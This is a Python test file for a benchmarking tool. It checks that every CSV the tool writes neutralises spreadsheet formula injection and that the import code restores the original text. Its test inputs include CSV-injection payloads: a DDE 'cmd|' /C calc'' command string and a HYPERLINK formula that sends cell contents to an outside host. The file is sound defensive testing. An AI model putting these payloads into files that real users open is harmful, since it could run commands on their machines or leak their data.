"""CSV files people open in a spreadsheet: a text cell that starts like a formula (=, +, -, @, tab, carriage return;
OWASP's "CSV injection") is written with a leading ' so the spreadsheet shows it as text, numbers stay numbers, and
our readers (pool-import, the questions sheet) restore the text exactly. Every CSV writer goes through one helper."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest

from rankbench.analysis.pooling import import_labels, read_filled, write_pool
from rankbench.io.files import csv_text, formula_safe, unguarded
from rankbench.report.tables import csv_table

SRC = Path(__file__).resolve().parents[2] / "src" / "rankbench"
HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "'=1+1", "''", "'"]
PLAIN = ["'twas the night", "How do I get a refund?", "-0.5", "+3", "1e-3", "", "a=b", "x-y"]


@pytest.mark.parametrize("text", HOSTILE + PLAIN)
def test_every_string_survives_the_guard_exactly_and_no_formula_is_left(text: str) -> None:
    written = formula_safe(text)
    assert unguarded(written) == text
    assert not (written.startswith(("=", "+", "-", "@", "\t", "\r")) and text in HOSTILE)
    assert written == text or text in HOSTILE  # plain text and numbers written as they are


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_pool_file_neutralises_formulas_and_pool_import_restores_the_text(tmp_path: Path) -> None:
    """Before: `=HYPERLINK(…)` in a question or a section reached pool.csv as a live formula."""
    frame = pd.DataFrame({"qid": ["q1", "q1"], "question": [HOSTILE[0]] * 2, "chunk_id": ["d1#+s", "d2#s"],
                          "doc_id": ["d1", "@d2"], "section": ["+s", "-x"], "title": ["@T", "-3"],
                          "passage": ["\t=1+1", "p"], "methods": ["m", "m"], "best_rank": [1, 2], "grade": ["2", "1"]})
    path = tmp_path / "pool.csv"
    write_pool(frame, path)
    rows = _cells(path.read_text())
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
    assert rows[1][1] == "'" + HOSTILE[0] and rows[2][5] == "-3" and rows[1][8] == "1"  # numbers stay numbers
    filled = read_filled(path)
    assert filled[["doc_id", "section"]].values.tolist() == [["d1", "+s"], ["@d2", "-x"]]
    source = tmp_path / "v1.jsonl"
    source.write_text(json.dumps({"qid": "q1", "question": HOSTILE[0], "labels": []}) + "\n")
    import_labels(filled, source, tmp_path / "v2.jsonl", "v2", tmp_path / "frozen.lock")
    labels = json.loads((tmp_path / "v2.jsonl").read_text())["labels"]
    assert labels == [{"doc_id": "d1", "section": "+s", "grade": 2}, {"doc_id": "@d2", "section": "-x", "grade": 1}]


def test_the_comparison_csv_neutralises_a_kind_and_keeps_negative_numbers_numeric() -> None:
    table = pd.DataFrame({"grain": ["document"], "kind": ["=cmd|' /C calc'!A0"], "metric": ["ndcg"], "k": [10],
                          "method": ["@m"], "mean": [-0.25]})
    text = csv_text(table, float_format="%.6f")
    assert text.splitlines()[1] == "document,'=cmd|' /C calc'!A0,ndcg,10,'@m,-0.250000"
    assert pd.read_csv(io.StringIO(text))["mean"].tolist() == [-0.25]


def test_every_csv_rankbench_writes_goes_through_the_one_helper() -> None:
    """No module but io/files.py writes CSV by itself (to_csv, csv.writer): a new writer would skip the guard."""
    writers = [f"{path.relative_to(SRC)}:{number}" for path in sorted(SRC.rglob("*.py")) if path.name != "files.py"
               for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
               if re.search(r"\.to_csv\(|csv\.(writer|DictWriter)\(", line)]
    assert writers == []
    assert csv_table.__module__ == "rankbench.report.tables"  # its CSV comes from csv_text (checked above)
